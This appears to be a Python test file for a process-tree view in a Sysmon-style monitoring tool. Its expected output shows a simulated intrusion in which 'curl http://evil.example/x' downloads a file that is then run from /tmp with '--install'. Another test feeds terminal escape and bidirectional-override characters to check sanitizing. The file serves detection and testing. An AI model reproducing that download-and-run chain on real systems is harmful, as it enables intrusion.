"""Processes drawn as a tree."""

from __future__ import annotations

from rich.cells import cell_len
from tests.views.cast import Cast, guid, intrusion, line_text

from pysmon.schema import catalogue
from pysmon.views.lineage import Lineage
from pysmon.views.tree import tree
from pysmon.views.words import Screen

PLAIN = Screen()
DRAWN = """\
              init [1]  joe  began earlier
2026-11-21
08:15:00.100  `- bash [100]  joe  exit 0 after 1.2 s  bash -l
08:15:00.200     |- env [101]  joe  env curl http://evil.example/x
08:15:00.300     |  became curl  exit 0 after 0.5 s  net 1  dns 1  files 1  curl http://evil.example/x
08:15:00.800     `- x [102]  joe  exit 1 after 0.4 s  files 1  /tmp/x --install
08:15:01.000        `- id [103]  joe  exit 0 after 0.1 s  id -un"""
BOXED = """\
              init [1]  joe  began earlier
2026-11-21
08:15:00.100  └─ bash [100]  joe  exit 0 after 1.2 s  bash -l
08:15:00.200     ├─ env [101]  joe  env curl http://evil.example/x
08:15:00.300     │  became curl  exit 0 after 0.5 s  net 1  dns 1  fi…
08:15:00.800     └─ x [102]  joe  exit 1 after 0.4 s  files 1  /tmp/x…
08:15:01.000        └─ id [103]  joe  exit 0 after 0.1 s  id -un"""


def drawn(cast: Cast, screen: Screen = PLAIN, *, fold: bool = True, always: bool = False) -> str:
    lines = tree(Lineage(cast.entries).roots(), screen, fold=fold, always=always)
    return "\n".join(line_text(line) for line in lines)


def test_a_tree_tells_who_started_whom_and_how_it_ended() -> None:
    assert drawn(intrusion()) == DRAWN


def test_on_a_screen_lines_are_cut_and_strokes_are_boxes() -> None:
    text = drawn(intrusion(), Screen(70, boxes=True))
    assert text == BOXED
    assert all(cell_len(line) <= 70 for line in text.splitlines())


def test_many_that_ran_the_same_become_one_line_unless_all_are_asked_for() -> None:
    cast = Cast()
    cast.run(100, "make")
    for pid in range(200, 240):
        cast.run(pid, f"cc {pid}.c", by=100)
        cast.end(pid)
    cast.run(300, "ld", by=100)
    lines = drawn(cast).splitlines()
    assert lines[3:] == [
        "08:15:00.200     |- cc [200]  joe  40 times, until [239] at 08:15:08.000  each exit 0",
        "08:15:08.200     `- ld [300]  joe  ld",
    ]
    assert len(drawn(cast, fold=False).splitlines()) == 3 + 41


def test_siblings_that_did_more_or_ended_otherwise_are_told_by_themselves() -> None:
    cast = Cast()
    for pid in range(200, 208):
        cast.run(pid, "cc")
        cast.end(pid, code=1 if pid == 203 else 0)
    cast.connect(205, "192.0.2.1")
    assert [line.split("[")[1].split("]")[0] for line in drawn(cast).splitlines()[2:]] == [
        str(p) for p in range(200, 208)
    ]


def test_a_deep_tree_keeps_its_lines_short() -> None:
    cast = Cast()
    for pid in range(2, 3000):
        cast.run(pid, "x", by=pid - 1)
    lines = drawn(cast).splitlines()
    assert len(lines) == 2 + 2998
    assert max(map(len, lines)) < 120
    assert lines[-1].startswith("08:19:59.800  ~2982 ")


def test_a_process_that_only_ended_is_left_away_unless_it_was_asked_for() -> None:
    cast = Cast()
    cast.end(7)
    assert drawn(cast) == ""
    assert drawn(cast, always=True).strip() == "an unknown program [7]  joe  began earlier  exit 0"


def test_days_are_told_as_they_change() -> None:
    cast = Cast()
    cast.run(5, "a")
    cast.wait(86_400)
    cast.run(6, "b")
    assert [line for line in drawn(cast).splitlines() if line[0] == "2"] == ["2026-11-21", "2026-11-22"]


def test_signals_and_rare_deeds_are_marked() -> None:
    cast = Cast()
    cast.run(5, "a")
    cast.do(catalogue.EbpfEvent, 5)
    cast.do(catalogue.FileBlockShredding, 5)
    cast.do(catalogue.ProcessTerminate, 5, extra={"Signal": 9})
    assert "a [5]  joe  signal 9 after 0.3 s  blocked 1  other 1  a" in drawn(cast)


def test_a_command_line_cannot_steer_the_terminal() -> None:
    cast = Cast("\x1b[0m")
    cast.run(5, "sh -c \x1b[2J\n`- fake", Image="/tmp/\u202ex")
    assert all(line.isprintable() for line in drawn(cast).splitlines())
    assert len(drawn(cast).splitlines()) == 3


def test_the_guide_of_a_last_child_ends_with_it() -> None:
    cast = intrusion()
    cast.run(104, "late", by=100)
    text = drawn(cast)
    assert "08:15:01.000     |  `- id [103]" in text
    assert guid(104) not in text
